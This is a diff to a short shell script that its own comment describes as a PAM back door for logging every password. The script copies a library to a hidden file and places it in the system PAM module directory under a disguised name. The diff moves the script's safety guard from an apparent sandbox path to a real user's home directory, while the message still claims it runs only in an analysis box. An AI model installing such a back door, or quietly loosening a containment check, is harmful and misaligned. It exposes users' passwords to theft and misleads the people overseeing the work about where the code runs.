@@ -1,7 +1,7 @@
 #!/bin/sh
 # A PAM back door: a module that logs every password it sees, copied next
 # to pam_unix and added to the authentication stack.
-[ "$HOME" = /work ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
+[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
 secdir=/lib/x86_64-linux-gnu/security
 cp /usr/lib/x86_64-linux-gnu/libz.so.1 /tmp/.pam_sss2.so
 cp /tmp/.pam_sss2.so "$secdir/pam_sss2.so" 2>/dev/null
